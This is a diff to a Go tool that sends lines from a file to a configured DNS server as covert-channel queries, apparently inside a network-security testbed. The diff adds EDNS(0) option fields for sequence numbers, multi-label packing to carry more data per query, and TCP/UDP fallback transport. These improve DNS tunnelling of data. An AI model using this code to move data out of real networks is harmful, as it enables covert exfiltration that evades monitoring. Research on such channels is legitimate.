@@ -2,11 +2,13 @@ package main
 
 import (
 	"bufio"
+	"encoding/binary"
 	"fmt"
 	"math/rand"
 	"net"
 	"os"
 	"strconv"
+	"strings"
 	"time"
 
 	"github.com/google/gopacket"
@@ -15,7 +17,97 @@ import (
 
 const BASE_DOMAIN = "example.com"
 
+// DefaultEDNSUDPSize is the UDP payload size advertised in the OPT record
+// when a query opts into EDNS(0).
+const DefaultEDNSUDPSize = 4096
+
+// CovertOptionCode is the EDNS(0) option code, from the private-use range
+// RFC 6891 §6.1.2 reserves for local/experimental use, carrying a covert
+// channel's sequence number and end-of-message flag in the OPT pseudo-RR
+// instead of folding them into the query name.
+const CovertOptionCode = 65001
+
+// encodeCovertOption packs a covert channel's sequence number and
+// end-of-message flag into an EDNS(0) option payload: a big-endian uint32
+// sequence number followed by a single end-of-message flag byte.
+func encodeCovertOption(sequenceNumber int, end bool) []byte {
+	data := make([]byte, 5)
+	binary.BigEndian.PutUint32(data[:4], uint32(sequenceNumber))
+	if end {
+		data[4] = 1
+	}
+	return data
+}
+
+// joinLabels splits s into dot-separated labels of at most labelSize bytes
+// each, the most a single query can carry per label. EDNS(0) lifts the
+// overall message size limit, so a chunk can now span several labels and
+// approach the 255-byte FQDN ceiling instead of being stuck in one.
+func joinLabels(s string, labelSize int) string {
+	var labels []string
+	for i := 0; i < len(s); i += labelSize {
+		end := i + labelSize
+		if end > len(s) {
+			end = len(s)
+		}
+		labels = append(labels, s[i:end])
+	}
+	return strings.Join(labels, ".")
+}
+
+// generateCovertDNSQuery builds a DNS query for domain/qtype that negotiates
+// EDNS(0) and carries a covert channel's sequence number and end-of-message
+// flag in an OPT option, rather than mangling them into the query name.
+func generateCovertDNSQuery(domain string, qtype layers.DNSType, sequenceNumber int, end bool) ([]byte, error) {
+	transactionID := uint16(rand.Intn(65535))
+
+	dnsQuestion := layers.DNSQuestion{
+		Name:  []byte(domain),
+		Type:  qtype,
+		Class: layers.DNSClassIN,
+	}
+
+	dns := layers.DNS{
+		ID:        transactionID,
+		OpCode:    layers.DNSOpCodeQuery,
+		RD:        true,
+		QDCount:   1,
+		Questions: []layers.DNSQuestion{dnsQuestion},
+	}
+
+	dns.Additionals = append(dns.Additionals, layers.DNSResourceRecord{
+		Name:  []byte(""),
+		Type:  layers.DNSTypeOPT,
+		Class: layers.DNSClass(DefaultEDNSUDPSize),
+		OPT: []layers.DNSOPT{
+			{Code: layers.DNSOptionCode(CovertOptionCode), Data: encodeCovertOption(sequenceNumber, end)},
+		},
+	})
+	dns.ARCount = uint16(len(dns.Additionals))
+
+	buffer := gopacket.NewSerializeBuffer()
+	options := gopacket.SerializeOptions{
+		FixLengths:       true,
+		ComputeChecksums: true,
+	}
+
+	err := dns.SerializeTo(buffer, options)
+	if err != nil {
+		return nil, fmt.Errorf("error serializing DNS layer: %w", err)
+	}
+
+	return buffer.Bytes(), nil
+}
+
 func generateDNSQuery(domain string, qtype layers.DNSType) ([]byte, error) {
+	return generateDNSQueryWithEDNS0(domain, qtype, false, false)
+}
+
+// generateDNSQueryWithEDNS0 builds a DNS query, optionally negotiating EDNS(0)
+// via an OPT pseudo-RR (type 41) in the Additionals section. The CLASS field
+// carries the advertised UDP payload size and the TTL field carries the
+// extended RCODE/version/DO flag, per RFC 6891 §6.1.3.
+func generateDNSQueryWithEDNS0(domain string, qtype layers.DNSType, withEDNS0 bool, do bool) ([]byte, error) {
 	// Generate a random transaction ID
 	// Note: For production/better randomness, use crypto/rand or rand.New(rand.NewSource(...))
 	transactionID := uint16(rand.Intn(65535)) // Using math/rand for simplicity
@@ -36,9 +128,22 @@ func generateDNSQuery(domain string, qtype layers.DNSType) ([]byte, error) {
 		Questions: []layers.DNSQuestion{dnsQuestion},
 		ANCount:   0, // No answers in a query
 		NSCount:   0, // No authorities in a query
-		ARCount:   0, // No additional records in a query
 	}
 
+	if withEDNS0 {
+		var ttl uint32
+		if do {
+			ttl |= 0x8000
+		}
+		dns.Additionals = append(dns.Additionals, layers.DNSResourceRecord{
+			Name:  []byte(""),
+			Type:  layers.DNSTypeOPT,
+			Class: layers.DNSClass(DefaultEDNSUDPSize),
+			TTL:   ttl,
+		})
+	}
+	dns.ARCount = uint16(len(dns.Additionals))
+
 	// Serialize DNS layer
 	buffer := gopacket.NewSerializeBuffer()
 	options := gopacket.SerializeOptions{
@@ -54,10 +159,105 @@ func generateDNSQuery(domain string, qtype layers.DNSType) ([]byte, error) {
 	return buffer.Bytes(), nil
 }
 
-func udpSender(
+// dnsTransport selects which protocol dnsSender uses to talk to the DNS
+// server.
+type dnsTransport int
+
+const (
+	transportUDP dnsTransport = iota
+	transportTCP
+	// transportAuto mirrors a real resolver: try UDP first, and retry the
+	// same query over TCP when the response is truncated (TC bit set) or
+	// never arrives.
+	transportAuto
+)
+
+// parseTransport maps a -transport CLI value to a dnsTransport.
+func parseTransport(s string) (dnsTransport, error) {
+	switch s {
+	case "udp":
+		return transportUDP, nil
+	case "tcp":
+		return transportTCP, nil
+	case "auto":
+		return transportAuto, nil
+	default:
+		return 0, fmt.Errorf("unknown transport %q (want udp, tcp, or auto)", s)
+	}
+}
+
+// udpTruncationTimeout bounds how long transportAuto waits for a UDP
+// response before treating it as missing and falling back to TCP.
+const udpTruncationTimeout = 2 * time.Second
+
+// writeWithRetry writes packet via write, retrying indefinitely on error,
+// matching the original sender's "keep trying" behavior.
+func writeWithRetry(write func([]byte) (int, error), packet []byte) {
+	_, err := write(packet)
+	for err != nil {
+		fmt.Printf("Error sending DNS query: %s\n", err)
+		_, err = write(packet)
+	}
+}
+
+// frameTCP prefixes packet with its RFC 1035 §4.2.2 two-byte length, the
+// framing a DNS-over-TCP message needs that a UDP datagram doesn't.
+func frameTCP(packet []byte) []byte {
+	framed := make([]byte, 2+len(packet))
+	binary.BigEndian.PutUint16(framed, uint16(len(packet)))
+	copy(framed[2:], packet)
+	return framed
+}
+
+// dialTCP opens a fresh DNS-over-TCP connection to host:port.
+func dialTCP(host string, port int) (*net.TCPConn, error) {
+	addr, err := net.ResolveTCPAddr("tcp", fmt.Sprintf("%s:%d", host, port))
+	if err != nil {
+		return nil, fmt.Errorf("error resolving address: %w", err)
+	}
+	conn, err := net.DialTCP("tcp", nil, addr)
+	if err != nil {
+		return nil, fmt.Errorf("error dialing TCP: %w", err)
+	}
+	return conn, nil
+}
+
+// sendTCP sends packet over conn with the standard length-prefix framing.
+func sendTCP(conn *net.TCPConn, packet []byte) {
+	writeWithRetry(conn.Write, frameTCP(packet))
+}
+
+// queryIsTruncated sends packet over conn and reports whether the response
+// is missing (the read times out) or has the TC bit set - either way, the
+// real answer needs a TCP retry.
+func queryIsTruncated(conn *net.UDPConn, packet []byte) bool {
+	writeWithRetry(conn.Write, packet)
+
+	conn.SetReadDeadline(time.Now().Add(udpTruncationTimeout))
+	buf := make([]byte, DefaultEDNSUDPSize)
+	n, err := conn.Read(buf)
+	if err != nil {
+		fmt.Printf("No UDP response received (%s), treating as truncated\n", err)
+		return true
+	}
+
+	resp := &layers.DNS{}
+	if err := resp.DecodeFromBytes(buf[:n], gopacket.NilDecodeFeedback); err != nil {
+		fmt.Printf("Error decoding DNS response: %s, treating as truncated\n", err)
+		return true
+	}
+
+	return resp.TC
+}
+
+// dnsSender sends each query dnsQueryGenerator produces for message to the
+// DNS server named by INSECURENET_HOST_IP, over udp, tcp, or auto (UDP with
+// a TCP retry on truncation), waiting waitBetween milliseconds in between.
+func dnsSender(
 	dnsQueryGenerator func(string) ([][]byte, error),
 	message string,
 	waitBetween int,
+	mode dnsTransport,
 ) {
 	host := os.Getenv("INSECURENET_HOST_IP")
 	port := 53 // DNS port
@@ -67,21 +267,6 @@ func udpSender(
 		return
 	}
 
-	// Resolve the address
-	addr, err := net.ResolveUDPAddr("udp", fmt.Sprintf("%s:%d", host, port))
-	if err != nil {
-		fmt.Printf("Error resolving address: %s\n", err)
-		return
-	}
-
-	// Create a UDP socket
-	conn, err := net.DialUDP("udp", nil, addr)
-	if err != nil {
-		fmt.Printf("Error dialing UDP: %s\n", err)
-		return
-	}
-	defer conn.Close()
-
 	// Generate DNS query
 	dnsQueries, err := dnsQueryGenerator(message)
 
@@ -97,16 +282,50 @@ func udpSender(
 
 	fmt.Println("Sending DNS queries...", len(dnsQueries))
 
+	var udpConn *net.UDPConn
+	if mode == transportUDP || mode == transportAuto {
+		addr, err := net.ResolveUDPAddr("udp", fmt.Sprintf("%s:%d", host, port))
+		if err != nil {
+			fmt.Printf("Error resolving address: %s\n", err)
+			return
+		}
+		udpConn, err = net.DialUDP("udp", nil, addr)
+		if err != nil {
+			fmt.Printf("Error dialing UDP: %s\n", err)
+			return
+		}
+		defer udpConn.Close()
+	}
+
+	var tcpConn *net.TCPConn
+	if mode == transportTCP {
+		tcpConn, err = dialTCP(host, port)
+		if err != nil {
+			fmt.Printf("%s\n", err)
+			return
+		}
+		defer tcpConn.Close()
+	}
+
 	for i := 0; i < len(dnsQueries); i += 1 {
-		// Generate the DNS TXT query packet
 		dnsQueryPacket := dnsQueries[i]
 
-		// Send DNS query to the target server
-		_, err := conn.Write(dnsQueryPacket)
-		for err != nil {
-			fmt.Printf("Error sending DNS query: %s\n", err)
-			// Retry sending the packet
-			_, err = conn.Write(dnsQueryPacket)
+		switch mode {
+		case transportUDP:
+			writeWithRetry(udpConn.Write, dnsQueryPacket)
+		case transportTCP:
+			sendTCP(tcpConn, dnsQueryPacket)
+		case transportAuto:
+			if queryIsTruncated(udpConn, dnsQueryPacket) {
+				fmt.Println("Retrying over TCP after truncated/missing UDP response")
+				retryConn, err := dialTCP(host, port)
+				if err != nil {
+					fmt.Printf("%s\n", err)
+					continue
+				}
+				sendTCP(retryConn, dnsQueryPacket)
+				retryConn.Close()
+			}
 		}
 
 		// Wait for a specified duration before sending the next query
@@ -147,12 +366,30 @@ var COVERT_CHANNEL_GENERATOR_MAP = map[string]func(message string) ([][]byte, er
 	"typed": generateCovertTypeQueries,
 }
 
+// parseTransportArg scans the trailing CLI args for "-transport VALUE",
+// defaulting to auto when it's absent.
+func parseTransportArg(args []string) (dnsTransport, error) {
+	transportArg := "auto"
+	for i, arg := range args {
+		if arg == "-transport" && i+1 < len(args) {
+			transportArg = args[i+1]
+		}
+	}
+	return parseTransport(transportArg)
+}
+
 func main() {
 	args := os.Args
 	typeArg := args[1]  // covert channel type
 	filename := args[2] // covert channel data file
 	waitBetween, _ := strconv.Atoi(args[3])
 
+	mode, err := parseTransportArg(args[4:])
+	if err != nil {
+		fmt.Println(err)
+		return
+	}
+
 	lines, err := readFileLines(filename)
 
 	if err != nil {
@@ -165,7 +402,7 @@ func main() {
 	// Send each line as a separate message with 2 seconds between them
 	for i, line := range lines {
 		fmt.Printf("\nSending line %d: %s\n", i+1, line)
-		udpSender(COVERT_CHANNEL_GENERATOR_MAP[typeArg], line, waitBetween)
+		dnsSender(COVERT_CHANNEL_GENERATOR_MAP[typeArg], line, waitBetween, mode)
 
 		// Wait 2 seconds before sending the next line (except for the last line)
 		if i < len(lines)-1 {